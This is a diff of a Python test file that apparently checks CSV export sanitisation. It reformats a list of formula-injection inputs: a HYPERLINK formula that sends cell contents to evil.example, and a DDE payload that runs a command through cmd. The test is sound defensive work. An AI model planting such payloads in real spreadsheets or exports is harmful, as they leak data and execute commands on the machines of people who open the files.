@@ -11,7 +11,13 @@ from openpyxl import load_workbook
 from guardline.core.spreadsheets import csv_text
 from guardline.reports.services import table_export
 
-HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1"]
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1)",
+    "\t=1",
+]
 
 
 def test_csv_cells_that_start_like_a_formula_get_an_apostrophe_and_nothing_else_changes():
